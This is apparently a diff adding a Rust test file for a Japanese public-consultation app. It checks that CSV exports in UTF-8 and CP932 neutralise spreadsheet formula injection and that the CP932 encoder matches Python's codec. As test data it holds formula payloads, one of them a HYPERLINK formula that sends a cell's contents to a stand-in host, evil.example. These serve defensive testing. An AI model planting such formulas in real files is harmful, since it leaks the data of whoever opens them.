@@ -1,0 +1,228 @@
+//! What outside clients and fault tests found (issue 10): CSV cells that spreadsheets ran as
+//! formulas, CP932 read by Python's own codec, a draft's files opened by staff, forwarded
+//! headers believed without a proxy, a 3-character CSRF cookie, and a sign-in limit that
+//! locked out a whole office behind one address.
+
+use crate::accounts::resident;
+use crate::consultations::{consultation_fields, jst};
+use crate::proposals::{act, draft};
+use crate::staff::{department, staff_member};
+use crate::support::{run, visible_text, TestApp, Visitor};
+use kyodo::proposals::csv::{encode, Encoding};
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+pub const TESTS: &[(&str, fn())] = &[
+    (
+        "hardening_security::csv_exports_neutralise_formulas_in_both_encodings",
+        csv_exports_neutralise_formulas_in_both_encodings,
+    ),
+    (
+        "hardening_security::csv_cp932_is_what_pythons_codec_reads",
+        csv_cp932_is_what_pythons_codec_reads,
+    ),
+];
+
+/// Runs a Python script on `input` and returns what it prints.
+fn python(script: &str, args: &[&str], input: &[u8]) -> String {
+    let mut child = Command::new("python3")
+        .arg("-c")
+        .arg(script)
+        .args(args)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("python3 runs");
+    child.stdin.take().unwrap().write_all(input).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "python3: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// The rows of a CSV file as Python's `csv` module reads it, decoded strictly with `codec`.
+fn rows_by_python(bytes: &[u8], codec: &str) -> Vec<Vec<String>> {
+    const PARSE: &str = "import csv, io, json, sys\n\
+        text = sys.stdin.buffer.read().decode(sys.argv[1])\n\
+        print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
+    serde_json::from_str(&python(PARSE, &[codec], bytes)).unwrap()
+}
+
+/// Every cell a spreadsheet would run as a formula (OWASP's first characters).
+fn formulas(rows: &[Vec<String>]) -> Vec<&String> {
+    rows.iter()
+        .flatten()
+        .filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']))
+        .collect()
+}
+
+/// Downloads `path` and checks its content type.
+async fn csv_file(visitor: &Visitor, path: &str, charset: &str) -> Vec<u8> {
+    let response = visitor.get(path).await;
+    assert_eq!(response.status(), 200, "{path}");
+    assert_eq!(
+        response.headers()["content-type"],
+        format!("text/csv; charset={charset}").as_str(),
+        "{path}"
+    );
+    response.bytes().await.unwrap().to_vec()
+}
+
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?q=\"&B2,\"詳細\")";
+
+/// A published result with one item whose every text starts a formula.
+async fn published_result(app: &TestApp, admin: &Visitor) {
+    let dept = department(app, "企画課");
+    app.clock.set(jst(2026, 11, 30, 12, 0, 0));
+    let fields = consultation_fields(dept, "2026-12-01", "2026-12-30");
+    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
+    let created = admin
+        .submit("/staff/consultations/new", "/staff/consultations", &fields)
+        .await;
+    assert_eq!(created.status(), 303);
+    app.clock.set(jst(2026, 12, 2, 10, 0, 0));
+    let work = "/staff/consultations/1";
+    let paper = admin
+        .submit(
+            work,
+            "/staff/consultations/1/comments",
+            &[
+                ("channel", "paper"),
+                ("received_on", "2026-12-02"),
+                ("body", "-駐輪場を増やしてください。"),
+                ("name", "児玉一郎"),
+                ("address", "本庄市児玉町99"),
+            ],
+        )
+        .await;
+    assert_eq!(paper.status(), 303);
+    app.clock.set(jst(2026, 12, 31, 10, 0, 0));
+    let item = admin
+        .submit(
+            work,
+            "/staff/consultations/1/items",
+            &[
+                ("receipts", "PC-2026-0001-000001"),
+                ("summary", HYPERLINK),
+                ("response", "+市の考え方〜‖¬∥￢"),
+                ("changed", "yes"),
+                ("change", "@修正 😀"),
+            ],
+        )
+        .await;
+    assert_eq!(item.status(), 303);
+    let published = admin
+        .submit(work, "/staff/consultations/1/publish", &[])
+        .await;
+    assert_eq!(published.status(), 303);
+}
+
+fn csv_exports_neutralise_formulas_in_both_encodings() {
+    run(async {
+        let app = TestApp::start().await;
+        let admin = staff_member(&app, "admin@example.jp", "管理者", &[("admin", None)]).await;
+        let hanako = app.visitor();
+        resident(&app, &hanako, "hanako@example.jp", "@SUM(1+1)").await;
+        for title in ["=1+1 駅前の花壇", "-5℃の朝も〜‖¬∥￢ 😀"] {
+            let id = draft(&hanako, title, "5-1").await;
+            assert_eq!(act(&hanako, &id, "submit").await.status(), 303);
+        }
+        published_result(&app, &admin).await;
+
+        // The staff's proposals: UTF-8 with BOM, then CP932 under each of its names.
+        let utf8 = csv_file(&admin, "/staff/proposals.csv", "utf-8").await;
+        let rows = rows_by_python(&utf8, "utf-8-sig");
+        assert_eq!(rows.len(), 3, "{rows:?}");
+        assert_eq!(rows[1][2], "'=1+1 駅前の花壇");
+        assert_eq!(rows[1][6], "'@SUM(1+1)");
+        assert_eq!(rows[2][2], "'-5℃の朝も〜‖¬∥￢ 😀");
+        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));
+        for name in ["cp932", "windows-31j", "shift_jis"] {
+            let path = format!("/staff/proposals.csv?encoding={name}");
+            let cp932 = csv_file(&admin, &path, "windows-31j").await;
+            let rows = rows_by_python(&cp932, "cp932");
+            assert_eq!(rows.len(), 3, "{name}");
+            assert_eq!(rows[1][2], "'=1+1 駅前の花壇");
+            assert_eq!(rows[1][6], "'@SUM(1+1)");
+            // The JIS forms come back as Windows holds them; only the emoji is lost.
+            assert_eq!(rows[2][2], "'-5℃の朝も～∥￢∥￢ ?", "{name}");
+            assert!(formulas(&rows).is_empty(), "{name}: {:?}", formulas(&rows));
+        }
+
+        // The published result, for anyone.
+        let visitor = app.visitor();
+        let utf8 = csv_file(&visitor, "/consultations/1/result.csv", "utf-8").await;
+        let rows = rows_by_python(&utf8, "utf-8-sig");
+        let quoted = format!("'{HYPERLINK}");
+        assert_eq!(
+            rows[1],
+            ["1", &quoted, "'+市の考え方〜‖¬∥￢", "有", "'@修正 😀"]
+        );
+        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));
+        let cp932 = csv_file(
+            &visitor,
+            "/consultations/1/result.csv?encoding=cp932",
+            "windows-31j",
+        )
+        .await;
+        let rows = rows_by_python(&cp932, "cp932");
+        assert_eq!(
+            rows[1],
+            ["1", &quoted, "'+市の考え方～∥￢∥￢", "有", "'@修正 ?"]
+        );
+        assert!(formulas(&rows).is_empty(), "{:?}", formulas(&rows));
+
+        // Both pages offering the files say what CP932 loses, in Japanese and in English.
+        let staff_page = admin.page("/staff/proposals").await;
+        assert!(staff_page.contains("href=\"/staff/proposals.csv?encoding=cp932\""));
+        assert!(visible_text(&staff_page)
+            .contains("CP932 にない文字（絵文字、一部のまれな漢字など）は「?」になります"));
+        let result = app.page("/consultations/1/result").await;
+        assert!(result.contains("href=\"/consultations/1/result.csv?encoding=cp932\""));
+        assert!(visible_text(&result)
+            .contains("CP932 にない文字（絵文字、一部のまれな漢字など）は「?」になります"));
+        let english = app.get_in("en", "/consultations/1/result").await;
+        let english = visible_text(&english.text().await.unwrap());
+        assert!(
+            english.contains("characters CP932 cannot hold (emoji, some rare kanji) become “?”"),
+            "{english}"
+        );
+        app.stop().await;
+    })
+}
+
+/// Every Unicode scalar value through the writer, each read back by Python's `cp932` codec:
+/// what the codec holds comes back as it reads it (the JIS forms it maps included), four more
+/// come back in their Windows form, and only the rest becomes `?`. Python alone also reads
+/// the lone bytes A0, FD–FF as U+F8F0–U+F8F3; Microsoft's table (CP932.TXT) has no such
+/// characters, so they are `?` too.
+fn csv_cp932_is_what_pythons_codec_reads() {
+    const CHECK: &str = "import sys\n\
+        windows_forms = {0x2014: 0x2015, 0xA6: 0xFFE4, 0xA5: 0xFFE5, 0x203E: 0xFFE3}\n\
+        outside_the_table = range(0xF8F0, 0xF8F4)\n\
+        bad = []\n\
+        for line in sys.stdin:\n\
+        \x20   cp, ours = line.split()\n\
+        \x20   cp = int(cp, 16)\n\
+        \x20   try:\n\
+        \x20       expected = '?' if cp in outside_the_table else chr(cp).encode('cp932').decode('cp932')\n\
+        \x20   except UnicodeEncodeError:\n\
+        \x20       expected = chr(windows_forms.get(cp, 0x3F))\n\
+        \x20   got = bytes.fromhex(ours).decode('cp932')\n\
+        \x20   if got != expected:\n\
+        \x20       bad.append('U+%04X: %r, not %r' % (cp, got, expected))\n\
+        print(len(bad), *bad[:20], sep='\\n')";
+    let mut lines = String::new();
+    let mut buffer = [0u8; 4];
+    for c in (0..=0x10FFFF).filter_map(char::from_u32) {
+        let bytes = encode(c.encode_utf8(&mut buffer), Encoding::Cp932);
+        let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
+        lines.push_str(&format!("{:x} {hex}\n", u32::from(c)));
+    }
+    let report = python(CHECK, &[], lines.as_bytes());
+    assert_eq!(report.lines().next(), Some("0"), "{report}");
+}
